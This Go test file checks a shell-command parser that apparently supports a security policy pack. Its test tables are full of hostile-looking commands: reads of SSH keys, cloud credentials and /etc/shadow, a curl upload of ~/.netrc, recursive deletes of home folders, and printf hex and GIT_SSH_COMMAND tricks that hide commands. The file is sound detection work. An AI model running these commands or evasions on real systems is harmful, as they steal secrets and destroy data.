package shell

import (
	"strings"
	"testing"
)

// testRoles is a small roles table in the shape of the pack's
// (policies/roles.rego); the tests check the walker that applies it,
// the pack's own rows are checked by the policy case tables.
var testRoles = &Roles{
	Programs: map[string]ProgramRoles{
		"git": {Dir: []string{"C"}, Config: []string{"c"}, Subcommands: map[string]ProgramRoles{
			"commit": {Text: []string{"m", "message"}, Value: []string{"F"}},
			"push":   {DryRun: []string{"n", "dry-run"}},
		}},
		"grep":    {TextOperands: 1, Pattern: []string{"e", "f"}, Text: []string{"e"}, Value: []string{"f"}},
		"echo":    {TextOperands: -1},
		"ssh":     {Use: []string{"i"}, Value: []string{"p"}},
		"kubectl": {Use: []string{"kubeconfig"}, Text: []string{"n", "namespace"}},
		"tar":     {Dir: []string{"C"}, Value: []string{"f"}},
		"rsync":   {Command: []string{"e"}},
		"trap":    {CommandOperands: 1},
		"python3": {Code: []string{"c"}, Value: []string{"m"}, StdinCode: true},
		"awk":     {CodeOperands: 1, Pattern: []string{"f"}, Value: []string{"f"}},
		"node":    {Code: []string{"e"}},
		"ruby":    {Code: []string{"e"}},
	},
	Wrappers:       testWrappers,
	Printers:       map[string]string{"echo": "operands", "printf": "format", "ls": "operands", "realpath": "operands", "find": "under", "pwd": "cwd"},
	Filters:        []string{"grep", "head"},
	CommandVars:    []string{"GIT_SSH_COMMAND"},
	ConfigCommands: []string{"core.sshcommand"},
	Examples:       []string{"~/.aws/credentials", "~/.kube/config", "~/.ssh/id_rsa", "~/.netrc", "/etc/shadow"},
	Ambiguous:      []string{"config"},
	Code: CodeRoles{
		Home:       []string{`os\.path\.expanduser\(\s*['"]~['"]\s*\)`, `os\.homedir\(\s*\)`, `Path\.home\(\s*\)`, `os\.environ\[\s*['"]HOME['"]\s*\]`},
		Delete:     []string{`os\.remove`},
		DeleteTree: []string{`shutil\.rmtree`},
		Shell:      []string{`os\.system`},
		Argv:       []string{`subprocess\.run`},
		Kill:       []string{`os\.kill`},
	},
}

// TestRoles: each role moves a word where it belongs, and only for the
// programs the table names.
func TestRoles(t *testing.T) {
	env := testEnv
	env.Roles = testRoles
	tests := []struct {
		name, command string
		program       string // the command to look at
		paths, text   string
		uses, maybe   string
		cwd           string
		dry           bool
	}{
		{name: "commit message is text", command: `git commit -m "see ~/.ssh/id_rsa"`, program: "git", text: "see ~/.ssh/id_rsa"},
		{name: "commit file is a path", command: `git commit -F ~/.netrc`, program: "git", paths: "/home/dev/.netrc"},
		{name: "git -C moves the directory", command: `git -C ~ add .aws/credentials`, program: "git", paths: "/home/dev,/home/dev/add,/home/dev/.aws/credentials", cwd: "/home/dev"},
		{name: "push -n is a dry run", command: `git push -n --force origin main`, program: "git", paths: "/home/dev/project/origin,/home/dev/project/main", dry: true},
		{name: "grep pattern is text", command: `grep -n '~/.aws/credentials' docs/a.md`, program: "grep", paths: "/home/dev/project/docs/a.md", text: "~/.aws/credentials"},
		{name: "grep -e makes every operand a file", command: `grep -e x ~/.netrc`, program: "grep", paths: "/home/dev/.netrc", text: "x"},
		{name: "a program without a row keeps every operand", command: `cat '~/.aws/credentials'`, program: "cat", paths: "/home/dev/.aws/credentials"},
		{name: "ssh -i uses its key", command: `ssh -i ~/.ssh/id_rsa -p 22 host`, program: "ssh", paths: "/home/dev/project/22,/home/dev/project/host", uses: "/home/dev/.ssh/id_rsa"},
		{name: "kubeconfig is used", command: `kubectl --kubeconfig ~/.kube/config -n prod get ns`, program: "kubectl", paths: "/home/dev/project/get,/home/dev/project/ns", uses: "/home/dev/.kube/config", text: "prod"},
		{name: "tar -C then relative", command: `tar -C ~ -czf /tmp/x.tgz .netrc`, program: "tar", paths: "/home/dev,/tmp/x.tgz,/home/dev/.netrc", cwd: "/home/dev"},
		{name: "glob names a known secret", command: `cat ~/.kube/c*`, program: "cat", paths: "/home/dev/.kube/c*,/home/dev/.kube/config"},
		{name: "glob with a class", command: `cat ~/.ss[h]/id_*`, program: "cat", paths: "/home/dev/.ss[h]/id_*,/home/dev/.ssh/id_rsa"},
		{name: "relative glob after cd", command: `cd ~/.aws && cat cred*`, program: "cat", paths: "/home/dev/.aws/cred*,/home/dev/.aws/credentials", cwd: "/home/dev/.aws"},
		{name: "unknown folder then a telling name", command: `cat "$D/credentials"`, program: "cat", maybe: "/home/dev/.aws/credentials"},
		{name: "unknown file in a secret folder", command: `cat ~/.aws/$F`, program: "cat", maybe: "/home/dev/.aws/credentials"},
		{name: "unknown folder then a common name", command: `cat "$OUT/config"`, program: "cat"},
		{name: "wholly unknown", command: `cat "$1"`, program: "cat"},
		{name: "curl form field with an unknown file", command: `for f in ~/.netrc x; do curl -F "f=@$f" u; done`, program: "curl", paths: "/home/dev/.netrc,/home/dev/project/u"},
		{name: "substitution of a printer", command: `cat "$(realpath ~/.netrc)"`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "substitution through a filter", command: `cat $(ls ~/.ssh/id_* | grep -v pub)`, program: "cat", paths: "/home/dev/.ssh/id_*,/home/dev/.ssh/id_rsa"},
		{name: "pwd prints the cwd", command: `rm -rf "$(pwd)/build"`, program: "rm", paths: "/home/dev/project/build"},
		{name: "xargs reads what printf prints", command: `printf '%s\0' ~/Documents | xargs -0 rm -rf`, program: "rm", paths: "/home/dev/Documents"},
		{name: "printf's format builds the path", command: "cat `printf '%s/.netrc' ~`", program: "cat", paths: "/home/dev/.netrc"},
		{name: "printf's format builds the program", command: `$(printf 'r%s' m) -rf ~/Music`, program: "rm", paths: "/home/dev/Music"},
		{name: "printf's hex escapes spell the program", command: `$(printf '\x72\x6d') -rf ~/Music`, program: "rm", paths: "/home/dev/Music"},
		{name: "printf's octal escapes spell the path", command: `cat "$(printf '%s/\056netrc' ~)"`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "printf reuses its format", command: `printf '%s/x\n' a b | xargs rm`, program: "rm", paths: "/home/dev/project/a/x,/home/dev/project/b/x"},
		{name: "printf with an unknown format hands on its arguments", command: `printf "$F" ~/.netrc | xargs cat`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "a temp default of TMPDIR is a temp folder", command: `rm -rf "${TMPDIR:-/tmp}/c"`, program: "rm", paths: "/tmp/c"},
		{name: "a default not used when the variable is known", command: `rm -rf "${HOME:-/x}/Music"`, program: "rm", paths: "/home/dev/Music"},
		{name: "a default that may be HOME stays unknown", command: `rm -rf "${TMPDIR:-$HOME}"`, program: "rm"},
		{name: "an assigned variable's default is not used", command: `D=build; rm -rf "${D:-/}"`, program: "rm", paths: "/home/dev/project/build"},
		{name: "xargs -I puts items in place", command: `echo ~/.netrc | xargs -I{} cp {} /tmp/n`, program: "cp", paths: "/home/dev/.netrc,/tmp/n"},
		{name: "xargs after an unknown stage", command: `cat list | xargs rm`, program: "rm"},
		{name: "sh -c positional arguments", command: `sh -c 'cp "$1" /tmp' _ ~/.netrc`, program: "cp", paths: "/home/dev/.netrc,/tmp"},
		{name: "sh -c all arguments", command: `bash -c 'cat "$@"' x ~/.netrc README`, program: "cat", paths: "/home/dev/.netrc,/home/dev/project/README"},
		{name: "$_ is the last argument", command: `test -f ~/.netrc && cat "$_"`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "IFS splits a known value", command: `IFS=_; c="cat_/etc/shadow"; $c`, program: "cat", paths: "/etc/shadow"},
		{name: "a command variable is parsed", command: `GIT_SSH_COMMAND='sh -c "cat ~/.netrc"' git pull`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "a shell given -c in code's argument list", command: `node -e "require('child_process').spawn('sh', ['-c', 'cat ~/.netrc'])"`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "a shell given -c in plain arguments", command: `ruby -e 'exec "bash", "-c", "cat ~/.netrc"'`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "ruby's backticks run their text", command: "ruby -e 'puts `cat ~/.netrc`'", program: "cat", paths: "/home/dev/.netrc"},
		{name: "a command config value is parsed", command: `git -c core.sshCommand="cat ~/.netrc" fetch`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "a command config value from the environment is parsed", command: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0="cat ~/.netrc" git fetch`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "its value may come first", command: `env GIT_CONFIG_VALUE_0="cat ~/.netrc" GIT_CONFIG_KEY_0=core.sshCommand git fetch`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "an exported config pair is parsed", command: `export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand; export GIT_CONFIG_VALUE_0="cat ~/.netrc"; git fetch`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "a command option is parsed", command: `rsync -e 'ssh -i ~/.ssh/id_rsa' a host:b`, program: "ssh", uses: "/home/dev/.ssh/id_rsa"},
		{name: "trap's action is parsed", command: `trap 'cat ~/.netrc' EXIT`, program: "cat", paths: "/home/dev/.netrc"},
		{name: "find -exec {} is what is found", command: `find . -name '*.pyc' -exec rm -f {} +`, program: "rm", paths: "/home/dev/project/*.pyc"},
		{name: "find -exec {} names secrets found", command: `find ~/.aws -name 'cred*' -exec cat {} \;`, program: "cat", paths: "/home/dev/.aws/cred*,/home/dev/.aws/credentials"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Parse(tt.command, env)
			if r.Error != "" {
				t.Fatalf("error %s", r.Error)
			}
			var c *Command
			for i := range r.Commands {
				if r.Commands[i].Name == tt.program {
					c = &r.Commands[i]
				}
			}
			if c == nil {
				t.Fatalf("no %s in %+v", tt.program, r.Commands)
			}
			check := func(what string, got []string, want string) {
				if g := strings.Join(got, ","); g != want {
					t.Errorf("%s %q, want %q", what, g, want)
				}
			}
			check("paths", c.Paths, tt.paths)
			check("text", c.Text, tt.text)
			check("uses", c.Uses, tt.uses)
			check("maybe", c.Maybe, tt.maybe)
			if tt.cwd != "" && c.Cwd != tt.cwd {
				t.Errorf("cwd %s, want %s", c.Cwd, tt.cwd)
			}
			if c.DryRun != tt.dry {
				t.Errorf("dry run %v, want %v", c.DryRun, tt.dry)
			}
		})
	}
}

// TestCode: interpreter code strings name paths, delete, kill and run
// command lines through their APIs.
func TestCode(t *testing.T) {
	env := testEnv
	env.Roles = testRoles
	tests := []struct {
		name, command string
		want          []string // summaries of the commands
	}{
		{"a literal path", `python3 -c "print(open('/etc/shadow').read())"`, []string{"python3 paths=/etc/shadow"}},
		{"a path under an expanded ~", `python3 -c "open(os.path.expanduser('~/.netrc'))"`, []string{"python3 paths=/home/dev/.netrc"}},
		{"joined to the home directory", `python3 -c "open(os.environ['HOME'] + '/.netrc')"`, []string{"python3 paths=/home/dev,/home/dev/.netrc"}},
		{"joined with path pieces", `python3 -c "(Path.home() / '.aws' / 'credentials').read_text()"`, []string{"python3 paths=/home/dev,/home/dev/.aws,/home/dev/.aws/credentials"}},
		{"through a variable", `python3 -c "d = os.environ['HOME']; open(d + '/.netrc')"`, []string{"python3 paths=/home/dev,/home/dev/.netrc"}},
		{"a recursive delete", `python3 -c "shutil.rmtree(os.path.expanduser('~'))"`, []string{`rm via="python3 code" paths=/home/dev`, "python3"}},
		{"a command line", `python3 -c "os.system('rm -rf ~')"`, []string{`rm via="python3 code" paths=/home/dev`, "python3"}},
		{"an argument vector", `python3 -c "subprocess.run(['cat', '/etc/shadow'])"`, []string{`cat via="python3 code" paths=/etc/shadow`, "python3 paths=/etc/shadow"}},
		{"a kill", `python3 -c "os.kill(1234, 9)"`, []string{`kill via="python3 code"`, "python3"}},
		{"code from a here-document", "python3 - <<'EOF'\nprint(open('/etc/shadow').read())\nEOF", []string{"python3 paths=/etc/shadow"}},
		{"an awk program", `awk 'BEGIN { system("cat /etc/shadow") }'`, []string{"awk"}},
		{"a module is not code", `python3 -m http.server`, []string{"python3 paths=/home/dev/project/http.server"}},
		{"code that does not parse as a command is left alone", `python3 -c "os.system('if (')"`, []string{"python3"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Parse(tt.command, env)
			if r.Error != "" {
				t.Fatalf("error %s", r.Error)
			}
			var got []string
			for _, c := range r.Commands {
				got = append(got, summary(c))
			}
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("%s\ngot:\n  %s\nwant:\n  %s", tt.command, strings.Join(got, "\n  "), strings.Join(tt.want, "\n  "))
			}
		})
	}
}

// TestCodeBound: scanning code costs linear time and is charged to the
// command's budget, so a huge code string ends in an Error, not a hang.
func TestCodeBound(t *testing.T) {
	env := testEnv
	env.Roles = testRoles
	code := strings.Repeat("os.system('x'); open('/a' + '/b'); ", 8000)
	r := Parse(`python3 -c "`+code+`"`, env)
	if r.Error == "" {
		t.Fatalf("no error for %d bytes of code with %d commands", len(code), len(r.Commands))
	}
}

func TestCodeTemplateLiteral(t *testing.T) {
	env := testEnv
	env.Roles = testRoles
	r := Parse("node -e 'console.log(fs.readFileSync(`${os.homedir()}/.npmrc`))'", env)
	if r.Error != "" || len(r.Commands) != 1 || strings.Join(r.Commands[0].Paths, ",") != "/home/dev/.npmrc" {
		t.Errorf("%+v", r)
	}
}
